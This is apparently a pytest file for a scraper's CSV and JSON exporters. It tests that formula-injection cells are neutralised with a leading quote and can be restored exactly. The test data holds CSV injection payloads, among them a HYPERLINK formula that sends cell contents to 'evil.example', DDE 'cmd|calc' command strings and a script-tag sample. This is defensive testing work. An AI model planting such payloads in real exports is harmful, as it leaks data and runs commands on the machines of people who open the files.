"""CSV cells: what a spreadsheet would run is neutralised (OWASP), in every CSV written,
and the documented rule can be undone to the exact text; JSON keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from belong_scraper.exporters import (
    csv_bytes,
    json_bytes,
    neutralise_csv_cell,
    read_csv_rows,
    restore_csv_cell,
    write_handoff,
)
from belong_scraper.report import review_csv_bytes
from tests.safety_checks import FORMULA, formula_cells

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n@cmd",
    "\u00a0+1",
    "＝1+1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_quote(text: str) -> None:
    cell = neutralise_csv_cell(text)
    assert cell == "'" + text
    assert restore_csv_cell(cell) == text


@pytest.mark.parametrize(
    "text", ["", "Plain text", "2024-03-01", "a=b", "'quoted", "http://x/?a=-1"]
)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise_csv_cell(text) == text
    assert restore_csv_cell(text) == text


def test_a_quote_before_a_formula_is_quoted_again_so_the_rule_can_be_undone() -> None:
    assert neutralise_csv_cell("'=1") == "''=1"
    assert restore_csv_cell("''=1") == "'=1"
    assert restore_csv_cell(neutralise_csv_cell("''+x")) == "''+x"


@given(st.text())
@settings(max_examples=500, deadline=None)
def test_the_rule_is_reversible_and_never_leaves_a_formula(text: str) -> None:
    cell = neutralise_csv_cell(text)
    assert restore_csv_cell(cell) == text
    assert not FORMULA.match(cell)


def hostile_records() -> list[dict]:
    return [
        {"id": f"article-{n}", "title": text, "tags": [text, "x"], "count": -n, "flag": n % 2 == 0}
        for n, text in enumerate([*FORMULAS, "<script>alert(1)</script>", "'=x", 'a,b\n"c"'])
    ]


def test_every_csv_writer_neutralises_and_json_keeps_the_text(tmp_path: Path) -> None:
    records = hostile_records()
    columns = ["id", "title", "tags", "count", "flag"]
    data = csv_bytes(records, columns).decode("utf-8")
    assert formula_cells(data) == []
    rows = read_csv_rows(data)
    for row, record in zip(rows, records, strict=True):
        assert row["title"] == record["title"]
        assert json.loads(row["tags"]) == record["tags"]  # lists stay JSON, untouched
        assert row["count"] == str(record["count"])
    assert json.loads(json_bytes(records)) == records

    review = [
        {"id": r["id"], "type": "article", "title": r["title"], "path": "-/p/", "source_url": "@u",
         "reasons": ["short-body"]}
        for r in records
    ]  # fmt: skip
    review_csv = review_csv_bytes(review).decode("utf-8")
    assert formula_cells(review_csv) == []
    assert [r["title"] for r in read_csv_rows(review_csv)] == [r["title"] for r in records]

    asset = {"id": "asset-0123456789ab", "url": "http://x/a.jpg", "local_path": "media/a.jpg",
             "sha256": "0" * 64, "bytes": 1, "media_type": "image/jpeg",
             "alt": "=HYPERLINK(\"x\")", "credit": "+cmd", "used_by": ["article-1"]}  # fmt: skip
    redirect = {"legacy_url": "http://x/-a", "legacy_path": "/-a", "status": 301,
                "target": "/news/", "record_id": "@id"}  # fmt: skip
    write_handoff(tmp_path, [asset], [redirect], "", "")
    for name in ("assets.csv", "redirects.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert formula_cells(text) == [], name
    assert (
        read_csv_rows((tmp_path / "assets.csv").read_text(encoding="utf-8"))[0]["alt"]
        == (asset["alt"])
    )
    raw = list(csv.DictReader(io.StringIO((tmp_path / "redirects.csv").read_text())))
    assert raw[0]["legacy_path"] == "/-a" and raw[0]["record_id"] == "'@id"
